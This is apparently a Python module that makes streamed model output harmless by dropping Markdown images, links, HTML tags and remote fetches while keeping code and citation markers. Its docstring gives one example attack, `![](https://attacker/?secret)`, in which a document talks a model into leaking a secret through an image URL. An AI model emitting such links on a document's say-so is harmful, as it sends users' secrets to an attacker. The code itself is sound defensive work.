"""Generated Markdown made harmless while it streams: no image, no link, no HTML, no remote fetch.

A model can be talked into printing `![](https://attacker/?secret)` by a document. What is left is
plain text, code and citation markers. The same pass finds the markers, since both have to know
what is code: nothing inside code is interpreted.
"""

# ruff: noqa: RUF001 - full-width brackets are meant

import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Literal

_MAX_HELD = 600  # code points a half-open construct may hold back before it counts as plain text
_AT_ONCE = 1000  # code points; keeps the cost of a hostile megabyte linear
_SPECIAL = re.compile(r"[`<\[【［!\n]")
_MARKER = re.compile(
    r"[\[【［]\s*\^?\s*(\d{1,3}(?:\s*[,;、，\-–~]\s*\^?\d{1,3})*)(?:\s*[†:][^\]】］\[\n]{0,40})?\s*[\]】］]"
)
_CLOSER = {"[": "]", "【": "】", "［": "］"}
_TAG = re.compile(r"<[A-Za-z/!?][^<>]*>")
_AUTOLINK = re.compile(r"<(https?://[^<>\s]*|[^<>\s@]+@[^<>\s@]+)>")
_TARGET = re.compile(r"\([^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)")
_FENCE = re.compile(r"[ ]{0,3}(`{3,}|~{3,})")


@dataclass(frozen=True, slots=True)
class Piece:
    """A piece of an answer: text or code to show as it is, or a marker's passage numbers."""

    kind: Literal["text", "code", "marker"]
    text: str = ""
    numbers: tuple[int, ...] = ()


@dataclass(slots=True)
class SafeMarkdown:
    """Turns streamed Markdown into harmless pieces.

    Holds back only what is half open: a bracket, a tag, a code span.
    """

    _held: str = ""
    _fence: str = ""
    _line_start: bool = True
    _last: str = field(default="\n")

    def feed(self, text: str) -> list[Piece]:
        """Return the pieces that are certain after `text`."""
        pieces: list[Piece] = []
        for start in range(0, len(text), _AT_ONCE):
            self._held += text[start : start + _AT_ONCE]
            pieces += self._drain(final=False)
        return pieces

    def finish(self) -> list[Piece]:
        """Return the rest; what is still half open is plain text."""
        return self._drain(final=True)

    def _drain(self, *, final: bool) -> list[Piece]:
        pieces: list[Piece] = []
        while self._held:
            step = self._fenced(final=final) if self._fence else self._next(final=final)
            if step is None:
                break
            length, found = step
            consumed, self._held = self._held[:length], self._held[length:]
            self._line_start = consumed.endswith("\n")
            for piece in found:
                guarded = self._guarded(piece)
                if guarded.text or guarded.numbers:
                    pieces.append(guarded)
        return pieces

    def _guarded(self, piece: Piece) -> Piece:
        """Keep pieces from forming a link or a tag with what was already sent."""
        if piece.kind == "marker":
            self._last = "]"
            return piece
        text = piece.text
        if piece.kind == "text":
            text = re.sub(r"(?<=\])(?=[(\[:])", " ", text)
            text = re.sub(r"<(?=[A-Za-z/!?])", "< ", text)
            if (self._last == "]" and text[:1] in {"(", "[", ":"}) or (
                self._last == "<" and re.match(r"[A-Za-z/!?]", text)
            ):
                text = " " + text
        self._last = text[-1:] or self._last
        return Piece(piece.kind, text)

    def _next(self, *, final: bool) -> tuple[int, list[Piece]] | None:
        held = self._held
        if self._line_start:
            step = self._fence_opening(final=final)
            if step != (0, []):
                return step
        match = _SPECIAL.search(held)
        if match is None:
            return len(held), [Piece("text", held)]
        if match.start():
            return match.start(), [Piece("text", held[: match.start()])]
        if held[0] == "\n":
            return 1, [Piece("text", "\n")]
        construct = {"`": _code, "<": _tag, "!": _image}.get(held[0], _bracket)
        step = construct(held, final=final)
        if step is None and (final or len(held) > _MAX_HELD):
            return 1, [Piece("text", held[0])]
        return step

    def _fence_opening(self, *, final: bool) -> tuple[int, list[Piece]] | None:
        """Return the opening line of a fenced block, None to wait, or (0, []) for no fence."""
        head = self._held.lstrip(" ")
        if not final and len(head) < 3 and head in {"", "`", "``", "~", "~~"}:  # noqa: PLR2004
            return None
        match = _FENCE.match(self._held)
        if match is None:
            return 0, []
        end = self._held.find("\n")
        if end < 0 and not final:
            return None
        end = len(self._held) if end < 0 else end + 1
        self._fence = match[1]
        return end, [Piece("code", self._held[:end])]

    def _fenced(self, *, final: bool) -> tuple[int, list[Piece]] | None:
        end = self._held.find("\n")
        if end < 0 and not final:
            return None
        end = len(self._held) if end < 0 else end + 1
        line = self._held[:end]
        closing = line.strip()
        if set(closing) == {self._fence[0]} and len(closing) >= len(self._fence):
            self._fence = ""
        return end, [Piece("code", line)]


def numbers_of(marker: str) -> tuple[int, ...]:
    """Return the passage numbers of a marker's inside (`1, 3`, `2-4`, full-width digits too)."""
    found: list[int] = []
    for item in re.split(r"[,;、，]", unicodedata.normalize("NFKC", marker).replace("^", "")):
        ends = [int(number) for number in re.findall(r"\d+", item)]
        if len(ends) == 2 and ends[0] <= ends[1] <= ends[0] + 20:  # noqa: PLR2004 - a range
            found += range(ends[0], ends[1] + 1)
        else:
            found += ends
    return tuple(dict.fromkeys(found))


def _code(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
    run = re.match(r"`+", held)
    ticks = run[0] if run else "`"
    if len(ticks) == len(held) and not final:
        return None
    line = held.partition("\n")[0]
    close = re.search(rf"(?<!`){ticks}(?!`)", line[len(ticks) :])
    if close and (final or len(ticks) + close.end() < len(held)):
        end = len(ticks) + close.end()
        return end, [Piece("code", held[:end])]
    if final or len(line) < len(held):
        return len(ticks), [Piece("text", ticks)]
    return None


def _tag(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
    if len(held) > 1 and not re.match(r"[A-Za-z/!?]", held[1]):
        return 1, [Piece("text", "<")]
    if match := _AUTOLINK.match(held):
        return match.end(), [Piece("text", match[1])]
    if match := _TAG.match(held):
        return match.end(), []
    return None if not final else (1, [Piece("text", "<")])


def _image(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
    if len(held) == 1 and not final:
        return None
    if held[1:2] != "[":
        return 1, [Piece("text", "!")]
    step = _bracket(held[1:], final=final)
    return None if step is None else (step[0] + 1, step[1])


def _bracket(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
    line = held.partition("\n")[0]
    end = line.find(_CLOSER[held[0]])
    inner = line[1:end] if end > 0 else line[1:]
    nested = re.search(r"[\[【［`<]", inner)
    if nested or (end < 0 and (final or len(line) < len(held))):
        return 1, [Piece("text", held[0])]
    if end < 0:
        return None
    end += 1
    if end == len(held) and not final:
        return None  # the next character decides whether this is a link
    marker = _MARKER.fullmatch(held[:end])
    found = [Piece("marker", numbers=numbers_of(marker[1]))] if marker else []
    if held[end : end + 1] in {"(", "["} and held[0] == "[":
        return _link(held, end, found or [Piece("text", inner)], final=final)
    return end, found or [Piece("text", held[:end])]


def _link(
    held: str, end: int, shown: list[Piece], *, final: bool
) -> tuple[int, list[Piece]] | None:
    """Drop the target of a link or an image; `shown` is what stands for it."""
    if held[end] == "[":
        return end, shown if shown[0].kind == "marker" else [Piece("text", held[:end])]
    if target := _TARGET.match(held, end):
        return target.end(), shown
    if final or "\n" in held[end:] or len(held) - end > _MAX_HELD:
        return end, shown
    return None


def harmless(text: str) -> Iterator[Piece]:
    """Yield the pieces of a whole text."""
    markdown = SafeMarkdown()
    yield from markdown.feed(text)
    yield from markdown.finish()
